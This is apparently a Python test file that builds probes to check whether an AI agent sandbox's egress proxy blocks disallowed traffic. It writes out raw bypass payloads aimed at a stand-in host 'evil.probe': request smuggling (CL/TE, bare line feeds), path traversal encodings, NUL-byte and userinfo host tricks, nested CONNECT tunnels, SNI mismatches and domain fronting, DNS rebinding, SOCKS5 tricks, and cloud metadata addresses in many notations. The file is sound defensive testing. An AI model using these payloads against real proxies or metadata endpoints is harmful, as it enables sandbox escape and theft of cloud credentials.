"""Through the proxy, by asking it for what it must not do."""

from collections.abc import Iterator, Sequence
from typing import Any

from runner.probes.probe import ALLOWED, EVIL, METADATA, METADATA6, Judge, Probe


def _request(target: str, host: str, method: str = "GET", more: str = "") -> str:
    return f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n"


def _through(id: str, title: str, raw: str, source: str = "", direct: Sequence[Any] = (EVIL, 80), **more: Any) -> Probe:
    """Bytes to the proxy; without a boundary they go straight to where they should."""
    return Probe(id, title, "proxied", {"raw": raw, **more}, {"direct": list(direct)}, Judge.CANARY, True, source)


def proxied() -> Iterator[Probe]:
    """The proxy, asked for what it must not do."""
    there, ok = "http://evil.probe/{nonce}", "http://allowed.probe/ok/"
    yield _through("P01", "A host that is not allowed", _request(there, "evil.probe"), "claude-code#40213")
    yield _through(
        "P02",
        "CONNECT to it",
        "CONNECT evil.probe:80 HTTP/1.1\r\nHost: evil.probe:80\r\n\r\n",
        "claude-code#87381",
        more=["{nonce}"],
    )
    yield _through(
        "P03",
        "CONNECT to its address",
        f"CONNECT {EVIL}:80 HTTP/1.1\r\nHost: {EVIL}:80\r\n\r\n",
        "srt README",
        more=["{nonce}"],
    )
    yield _through(
        "P04", "Another Host header than the target", _request(ok + "{nonce}", "evil.probe"), "agentcage#214"
    )
    yield _through("P05", "https as a whole address", _request("https://evil.probe/{nonce}", "evil.probe"))
    yield _through(
        "P06", "A dot behind the name", _request("http://evil.probe./{nonce}", "evil.probe."), "CVE-2026-24052"
    )
    yield _through(
        "P07",
        "An allowed name as a prefix",
        _request("http://allowed.probe.evil.probe/{nonce}", "allowed.probe.evil.probe"),
        "CVE-2026-24052",
    )
    yield _through(
        "P08",
        "An allowed name as user information",
        _request("http://allowed.probe@evil.probe/{nonce}", "evil.probe"),
        "PortSwigger URL cheat sheet",
    )
    yield _through(
        "P09",
        "A NUL behind an allowed name",
        _request("http://allowed.probe\0.evil.probe/{nonce}", "allowed.probe"),
        "srt NUL bypass",
    )
    yield _through(
        "P10",
        "Another port of an allowed host",
        _request("http://allowed.probe:8080/ok/{nonce}", "allowed.probe:8080"),
        direct=(ALLOWED, 8080),
    )
    denied = {
        "P11": ("A path that is not allowed", "/denied/{nonce}"),
        "P12": ("Out of the path by two dots", "/ok/../denied/{nonce}"),
        "P13": ("The same, encoded", "/ok/%2e%2e/denied/{nonce}"),
        "P14": ("The same, encoded twice", "/ok/%252e%252e/denied/{nonce}"),
        "P15": ("The same by a backslash", "/ok/..\\denied/{nonce}"),
        "P16": ("The same by a path parameter", "/ok/..;/denied/{nonce}"),
    }
    for id, (title, path) in denied.items():
        yield _through(id, title, _request(f"http://allowed.probe{path}", "allowed.probe"), direct=(ALLOWED, 80))
    yield _through(
        "P17",
        "A method that is not allowed",
        _request(ok + "denied/{nonce}", "allowed.probe", "DELETE"),
        direct=(ALLOWED, 80),
    )
    inner = _request("/denied/{nonce}", "allowed.probe")
    both = "Content-Length: 5\r\nTransfer-Encoding: chunked"
    smuggled = f"POST {ok} HTTP/1.1\r\nHost: allowed.probe\r\n{both}\r\n\r\n0\r\n\r\n{inner}"
    yield _through(
        "P18", "A request inside another's body (CL and TE)", smuggled, "RFC 9112 section 11.2", direct=(ALLOWED, 80)
    )
    folded = f"GET {ok} HTTP/1.1\r\nHost: allowed.probe\r\nX: a\n\n{inner}"
    yield _through("P19", "A request behind a bare line feed", folded, "RFC 9112 section 2.2", direct=(ALLOWED, 80))
    upgrade = "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
    yield _through("P20", "WebSocket to a host that is not allowed", _request(there, "evil.probe", more=upgrade))
    chained = "CONNECT secure.probe:443 HTTP/1.1\r\nHost: secure.probe:443\r\n\r\n"
    nested = "CONNECT evil.probe:443 HTTP/1.1\r\nHost: evil.probe:443\r\n\r\n{nonce}"
    yield _through("P21", "A proxy behind the proxy, through a tunnel", chained, direct=(EVIL, 443), more=[nested])
    again = "CONNECT proxy.drawbridge.internal:1 HTTP/1.1\r\nHost: proxy.drawbridge.internal:1\r\n\r\n"
    yield _through("P22", "The gateway through itself", again, direct=(EVIL, 80), more=[nested])
    yield _through(
        "P23",
        "An allowed name that leads to the machine itself",
        _request("http://rebound.probe:8080/ok/{nonce}", "rebound.probe:8080"),
        "DNS rebinding",
        direct=("127.0.0.1", 8080),
    )
    yield _through(
        "P24",
        "An allowed name that leads to the metadata address",
        _request("http://cloud.probe/ok/{nonce}", "cloud.probe"),
        "DNS rebinding",
        direct=(METADATA, 80),
    )
    url = "http://allowed.probe/ok/redirect/{nonce}"
    straight = {"url": f"http://{ALLOWED}/ok/redirect/{{nonce}}", "direct": True}
    yield Probe(
        "P25",
        "A redirect from an allowed host to one that is not",
        "follows",
        {"url": url},
        straight,
        Judge.CANARY,
        True,
        "probe N14",
    )
    for number, notation in enumerate(
        (METADATA, "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", f"[::ffff:{METADATA}]",
         f"[{METADATA6}]", "[64:ff9b::a9fe:a9fe]", "metadata.google.internal", "169.254.169.254.nip.io"), 5,
    ):  # fmt: skip
        raw = _request(f"http://{notation}/latest/{{nonce}}", notation)
        yield _through(
            f"M{number:02}", f"Metadata by the proxy: {notation}", raw, "srt README, OWASP SSRF", direct=(METADATA, 80)
        )


def tls() -> Iterator[Probe]:
    """Names that disagree."""
    base = {"host": "secure.probe", "port": 443, "inner": "{nonce}"}
    away = {"direct": [EVIL, 443]}

    def probe(id: str, title: str, source: str = "", **more: Any) -> Probe:
        return Probe(id, title, "tunnelled", {**base, **more}, away, Judge.CANARY, True, source)

    yield probe("T01", "TLS names another host than CONNECT", "microsandbox#709", sni="evil.probe")
    yield probe("T02", "TLS names no host", "microsandbox#709", sni=None)
    yield probe("T03", "TLS hides the host (encrypted ClientHello)", "RFC 9849", hello="{ech}")
    fronted = _request("/ok/{nonce}", "evil.probe")
    yield probe(
        "T04",
        "Domain fronting: another Host inside TLS",
        "agentcage#214",
        host="inspected.probe",
        sni="inspected.probe",
        inner=fronted,
    )
    yield probe("T05", "Something else than TLS in a tunnel", hello="{plain}")


def socks() -> Iterator[Probe]:
    """The same over SOCKS5."""
    name = b"evil.probe"
    there = {"direct": [EVIL, 80]}
    asked = {
        "S01": ("SOCKS5 to a host that is not allowed", b"\5\1\0\3" + bytes([len(name)]) + name + b"\0P", "srt"),
        "S02": ("SOCKS5 to an address", b"\5\1\0\1" + bytes([203, 0, 113, 66]) + b"\0P", "srt"),
        "S03": (
            "SOCKS5 with a NUL behind an allowed name",
            b"\5\1\0\3\x18allowed.probe\0evil.probe\0P",
            "srt NUL bypass",
        ),
        "S04": ("SOCKS5 BIND: a port to come back by", b"\5\2\0\3" + bytes([len(name)]) + name + b"\0P", "RFC 1928"),
        "S05": ("SOCKS5 UDP ASSOCIATE", b"\5\3\0\1\0\0\0\0\0\0", "RFC 1928"),
    }
    for id, (title, raw, source) in asked.items():
        arguments = {"raw": raw.hex(), "nonce": "{nonce}"}
        yield Probe(id, title, "socks", arguments, there, Judge.CANARY, True, source)
